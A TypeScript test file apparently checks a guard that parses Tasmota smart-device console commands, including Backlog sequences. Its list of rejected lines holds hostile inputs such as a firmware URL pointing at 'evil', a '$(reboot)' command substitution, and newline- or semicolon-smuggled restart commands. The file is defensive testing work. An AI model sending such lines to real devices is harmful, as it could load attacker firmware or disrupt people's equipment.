import { describe, expect, it } from "vitest";
import { parseTasmotaConsoleLine, TASMOTA_CONSOLE_MAX_LENGTH } from "./tasmota-console";

/** The parse of a line that is one command: itself, and itself as its only step. */
const one = (name: string, arg: string) => ({ ok: true, command: { name, arg }, steps: [{ name, arg }] });

describe("the Tasmota console's command guard: one command name with a plain argument, or a Backlog of them", () => {
  it("takes Tasmota commands with and without an argument", () => {
    expect(parseTasmotaConsoleLine("Status 0")).toEqual(one("Status", "0"));
    expect(parseTasmotaConsoleLine("  Power2   TOGGLE ")).toEqual(one("Power2", "TOGGLE"));
    expect(parseTasmotaConsoleLine("State")).toEqual(one("State", ""));
    expect(parseTasmotaConsoleLine("SetOption19 1")).toEqual(one("SetOption19", "1"));
    expect(parseTasmotaConsoleLine("FriendlyName1 Lampa salon")).toEqual(one("FriendlyName1", "Lampa salon"));
  });

  it("splits a Backlog on ; as Tasmota does (steps trimmed, empty ones skipped) and publishes the steps it checked", () => {
    expect(parseTasmotaConsoleLine("Backlog Power1 ON;  Delay 10 ;;Power1 OFF;")).toEqual({
      ok: true,
      command: { name: "Backlog", arg: "Power1 ON;Delay 10;Power1 OFF" },
      steps: [
        { name: "Power1", arg: "ON" },
        { name: "Delay", arg: "10" },
        { name: "Power1", arg: "OFF" },
      ],
    });
    expect(parseTasmotaConsoleLine("backlog0 MqttHost 10.0.0.66")).toEqual({
      ok: true,
      command: { name: "backlog0", arg: "MqttHost 10.0.0.66" },
      steps: [{ name: "MqttHost", arg: "10.0.0.66" }],
    });
    expect(parseTasmotaConsoleLine(`Backlog ${Array.from({ length: 30 }, () => "Power").join(";")}`).ok).toBe(true);
  });

  it("refuses hostile or malformed lines with a reason that never quotes them", () => {
    const hostile = [
      "",
      "   ",
      "Backlog0",
      "Backlog ; ;",
      "Backlog Power ON; Backlog MqttHost 10.0.0.66",
      "Backlog Power ON; BacklogMqttHost 10.0.0.66",
      "Backlog Power ON; backlog0MqttHost 10.0.0.66",
      "Backlog Power ON; Upgrade 1",
      "Backlog Power ON; MqttHost=10.0.0.66",
      'Backlog Power ON; Rule1 {"on":1}',
      `Backlog ${Array.from({ length: 31 }, () => "Power").join(";")}`,
      "MqttHost=10.0.0.66",
      "Power ON; Restart 1",
      "Power;Restart 1",
      "Upgrade 1",
      "OtaUrl http://evil/fw.bin",
      "../POWER ON",
      "POWER/2 ON",
      "cmnd/x/POWER ON",
      "+ ON",
      "# ON",
      "Power+ ON",
      "1Power ON",
      "_Power ON",
      "Power\nRestart 1",
      "Power\u0000 ON",
      "Power ON\r",
      "Power \u0007",
      "Power ÖN",
      'Rule1 {"on":1}',
      "Rule1 ON Power1#State DO Power2 %value% ENDON",
      "Var1 $(reboot)",
      "Var1 'x'",
      "Var1 a\\b",
      `Var1 ${"x".repeat(TASMOTA_CONSOLE_MAX_LENGTH)}`,
      `${"A".repeat(33)} 1`,
    ];
    for (const line of hostile) {
      const result = parseTasmotaConsoleLine(line);
      expect(result.ok, JSON.stringify(line)).toBe(false);
      if (!result.ok && line.trim() !== "") expect(result.reason).not.toContain(line.trim());
    }
  });
});
